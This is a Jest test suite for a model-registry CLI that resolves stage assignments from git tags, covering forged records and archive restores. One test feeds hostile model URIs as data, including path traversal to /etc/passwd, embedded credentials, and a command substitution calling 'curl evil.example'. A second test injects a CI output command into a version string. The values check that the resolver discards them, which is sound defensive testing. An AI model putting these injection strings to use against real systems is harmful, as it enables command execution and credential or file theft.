import { describe, expect, it } from '@jest/globals'
import { resolveServedStage } from '../../src/registry/serving.js'
import { recordFromTagMessage } from '../../src/records/record.js'
import { scratchRegistry, AUC_POLICY, MODEL, isoAt, promoteUnderAucPolicy } from './serving-scratch.js'

/*
 * Assignments someone else wrote: GTO's own tags (no record), hand-written tags whose "record"
 * lies about the version or stage or carries a hostile model URI, and restoring an archived version.
 */

const scratch = scratchRegistry()
const { cli, tags } = scratch
const resolveJson = async (...argv: string[]) => {
  const run = await cli('resolve', '--model', MODEL, '--format', 'json', ...argv)
  return { code: run.code, json: JSON.parse(run.stdout) }
}

function record(overrides: Record<string, unknown>): string {
  return JSON.stringify({
    schema: 'modelgate/promotion-record/v1',
    event: 'promotion',
    model: MODEL,
    version: 'v1.0.0',
    from_stage: 'staging',
    to_stage: 'prod',
    decision: 'promote',
    gates: [],
    approvals: [],
    rollout: null,
    rollback_to: null,
    baseline: { version: null },
    evidence: [],
    artifacts: { model_digest: `sha256:${'a'.repeat(64)}`, model_uri: 's3://models/churn/v1' },
    created_at: isoAt(2),
    ...overrides
  })
}

describe('assignments written by GTO', () => {
  it('resolve answers a GTO-written assignment as unverified, with the registration commit and no lineage', async () => {
    const c1 = scratch.repo().git('rev-parse', 'HEAD')
    scratch.repo().tagAt(1, '-a', 'churn@v1.0.0', '-m', 'Registering artifact churn version v1.0.0', c1)
    scratch
      .repo()
      .tagAt(10, '-a', 'churn#prod#1', '-m', 'Assigning stage prod to artifact churn version v1.0.0', c1)
    const { code, json } = await resolveJson('--stage', 'prod')
    expect(code).toBe(0)
    expect(json.versions).toEqual([
      {
        version: 'v1.0.0',
        commit: c1,
        model_digest: null,
        model_uri: null,
        weight: null,
        since: '2025-11-22T08:26:50+00:00',
        tag: 'churn#prod#1',
        verified: false
      }
    ])
    // As of a second before GTO wrote it, prod was empty; from that second on it holds v1.
    expect((await resolveJson('--stage', 'prod', '--at', isoAt(9))).json.versions).toEqual([])
    expect((await resolveJson('--stage', 'prod', '--at', isoAt(10))).json.versions[0].version).toBe('v1.0.0')
    // GTO's unassignment archives it, GTO's way.
    scratch.repo().tagAt(20, '-a', 'churn#prod!#2', '-m', 'Unassigning stage prod from version v1.0.0', c1)
    const archived = await resolveJson('--stage', 'archived')
    expect(archived.json.versions).toEqual([
      expect.objectContaining({
        version: 'v1.0.0',
        from_stage: 'prod',
        tag: 'churn#prod!#2',
        verified: false
      })
    ])
  })

  it('a record that names another version or stage makes the assignment invalid: it never counts', async () => {
    const c1 = scratch.repo().git('rev-parse', 'HEAD')
    scratch.repo().tagAt(1, '-a', 'churn@v1.0.0', '-m', 'r', c1)
    scratch.repo().tagAt(2, '-a', 'churn#prod#1', '-m', `promote\n\n${record({ to_stage: 'staging' })}`, c1)
    const c2 = scratch.repo().commit()
    scratch.repo().tagAt(3, '-a', 'churn@v2.0.0', '-m', 'r', c2)
    scratch
      .repo()
      .tagAt(4, '-a', 'churn#staging#2', '-m', `promote\n\n${record({ to_stage: 'staging' })}`, c2)
    // Records decide: a prod tag whose record says staging, and a staging tag on v2's commit whose
    // record claims v1, are invalid, not unverified assignments.
    expect((await resolveJson('--stage', 'prod')).json.versions).toEqual([])
    expect((await resolveJson('--stage', 'staging')).json.versions).toEqual([])
  })

  it('a hostile model URI or digest in a record never reaches the answer', async () => {
    const c1 = scratch.repo().git('rev-parse', 'HEAD')
    scratch.repo().tagAt(1, '-a', 'churn@v1.0.0', '-m', 'r', c1)
    const hostile = [
      's3://models/churn/v1\nversion=evil',
      'https://user:token@example.com/model.bin',
      'https://example.com/model.bin?X-Amz-Signature=secret',
      's3://models/../../etc/passwd',
      's3://models/%2e%2e/secret',
      's3://models/$(curl evil.example)',
      'file:///etc/passwd',
      's3://models/\u202emodel',
      `s3://models/${'a'.repeat(3000)}`
    ]
    for (const [i, uri] of hostile.entries()) {
      const counter = i + 1
      scratch
        .repo()
        .tagAt(
          10 + counter,
          '-a',
          `churn#prod#${counter}`,
          '-m',
          `promote\n\n${record({ artifacts: { model_digest: 'sha256:NOTHEX', model_uri: uri }, created_at: isoAt(10 + counter) })}`,
          c1
        )
      const [served] = resolveServedStage(await tags(), MODEL, 'prod')
      expect(served).toMatchObject({ version: 'v1.0.0', tag: `churn#prod#${counter}`, verified: true })
      expect(served!.model_uri).toBeNull()
      expect(served!.model_digest).toBeNull()
    }
  })

  it('a version that is not canonical semver (only a record names it) is not served', async () => {
    const c1 = scratch.repo().git('rev-parse', 'HEAD')
    scratch
      .repo()
      .tagAt(2, '-a', 'churn#prod#1', '-m', `promote\n\n${record({ version: 'v1.0.0\n::set-output' })}`, c1)
    const { code, json } = await resolveJson('--stage', 'prod')
    expect(code).toBe(1)
    expect(json.versions).toEqual([])
  })

  it('a stage literally named "archived" (a hand-written tag) makes --stage archived refuse, not guess', async () => {
    const c1 = scratch.repo().git('rev-parse', 'HEAD')
    scratch.repo().tagAt(1, '-a', 'churn@v1.0.0', '-m', 'r', c1)
    scratch.repo().tagAt(2, '-a', 'churn#archived#1', '-m', 'a', c1)
    const run = await cli('resolve', '--model', MODEL, '--stage', 'archived')
    expect(run.code).toBe(2)
    expect(run.stderr).toContain('literally named "archived"')
    // --all lists it as the tags say.
    expect((await resolveJson('--all')).json.stages[0]).toMatchObject({ stage: 'archived' })
  })
})

describe('restoring an archived version', () => {
  const POLICY = AUC_POLICY
  const promote = (version: string, to: string) => promoteUnderAucPolicy(cli, version, to)

  it('promoting an archived version back to staging works and is recorded as a restore', async () => {
    scratch.repo().write('policy.yaml', POLICY)
    scratch.repo().write('offline.json', '{"auc": 0.95}')
    scratch.repo().commit('train v1')
    expect((await cli('register', '--model', MODEL, '--version', '1')).code).toBe(0)
    expect((await promote('1', 'staging')).code).toBe(0)
    scratch.repo().commit('train v2')
    expect((await cli('register', '--model', MODEL, '--version', '2')).code).toBe(0)
    expect((await promote('2', 'staging')).code).toBe(0)
    const archived = await resolveJson('--stage', 'archived')
    expect(archived.json.versions).toEqual([
      expect.objectContaining({ version: 'v1.0.0', from_stage: 'staging', verified: true })
    ])
    // Straight to prod is refused: it re-enters where every version enters.
    const skip = await promote('1', 'prod')
    expect(skip.code).toBe(2)
    expect(skip.stderr).toContain('v1.0.0 is archived (in no stage); restore it into staging first')

    const restore = await promote('1', 'staging')
    expect(restore.code).toBe(0)
    expect(restore.stdout).toContain('archived -> staging')
    expect(restore.stdout).toContain('restored v1.0.0 from archived')
    expect(
      (await resolveJson('--stage', 'staging')).json.versions.map((v: { version: string }) => v.version)
    ).toEqual(['v1.0.0'])
    // v2 is archived now, v1 is not.
    expect(
      (await resolveJson('--stage', 'archived')).json.versions.map((v: { version: string }) => v.version)
    ).toEqual(['v2.0.0'])
    const all = await tags()
    const restoreTag = all.find((t) => recordFromTagMessage(t.message)?.from_stage === 'archived')!
    expect(restoreTag.message.split('\n')[0]).toBe('promote churn v1.0.0 archived -> staging')
    const history = await cli('history', '--model', MODEL)
    expect(history.stdout).toMatch(
      new RegExp(`promotion\\s+v1\\.0\\.0\\s+staging.*${restoreTag.name}\\s+restored from archived`)
    )
    const json = JSON.parse((await cli('history', '--model', MODEL, '--format', 'json')).stdout)
    expect(json.events.find((e: { tag: string }) => e.tag === restoreTag.name)).toMatchObject({
      kind: 'promotion',
      from_stage: 'archived'
    })
    // A promotion of a version that was never archived is not a restore.
    expect(all.filter((t) => recordFromTagMessage(t.message)?.from_stage === 'dev')).toHaveLength(2)
  })
})
